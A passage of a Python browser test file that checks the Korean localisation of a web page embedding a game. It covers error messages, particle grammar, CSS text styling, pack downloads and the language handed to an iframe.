        text = pg.inner_text("#error")
        assert "Python 런타임을 쓸 수 없습니다" in text and "새로 고침" in text
        from ui.i18n.particles import attach
        host = pg.inner_text("#error code")
        assert attach(host, "을") + " 허용한 뒤" in text  # the particle follows the host's final sound
        style = "(s => [s.wordBreak, s.letterSpacing])(getComputedStyle(document.querySelector(%r)))"
        assert pg.evaluate(style % "#error")[0] == "keep-all"
        assert pg.evaluate(style % "#error h2")[1] in ("0px", "normal")
    finally:
        ctx.close()
    from ui.packs import PACKS, archive_url, pack_bytes
    for pack in PACKS:  # the game fetches these from beside the page
        with urllib.request.urlopen(f"{site}/{archive_url(pack)}", timeout=10) as res:
            assert res.read() == pack_bytes(pack)


def test_embed_page_in_korean_tells_the_game(site: str, browser) -> None:
    ctx, pg = korean_page(browser, width=1000, locale="en-US")
    try:
        pg.goto(f"{site}/embed.html")
        pg.click("a[hreflang=ko]")  # the article's Korean edition, linked from the English one
        pg.wait_for_url("**/embed.ko.html")
        assert pg.evaluate("document.documentElement.lang") == "ko"
        assert "외부 파편화" in pg.inner_text("article")
        assert "What you are looking at" not in pg.inner_text("article")
        assert pg.get_attribute("iframe#game", "src") == "index.html?lang=ko"
        frame = pg.wait_for_selector("iframe#game").content_frame()
        frame.wait_for_selector("#boot", state="attached", timeout=30_000)
        assert frame.evaluate("vtBoot.language") == "ko"  # the game in the frame speaks Korean too
        pg.screenshot(path=str(OUT / "browser-embed-ko.png"))
    finally:
        ctx.close()
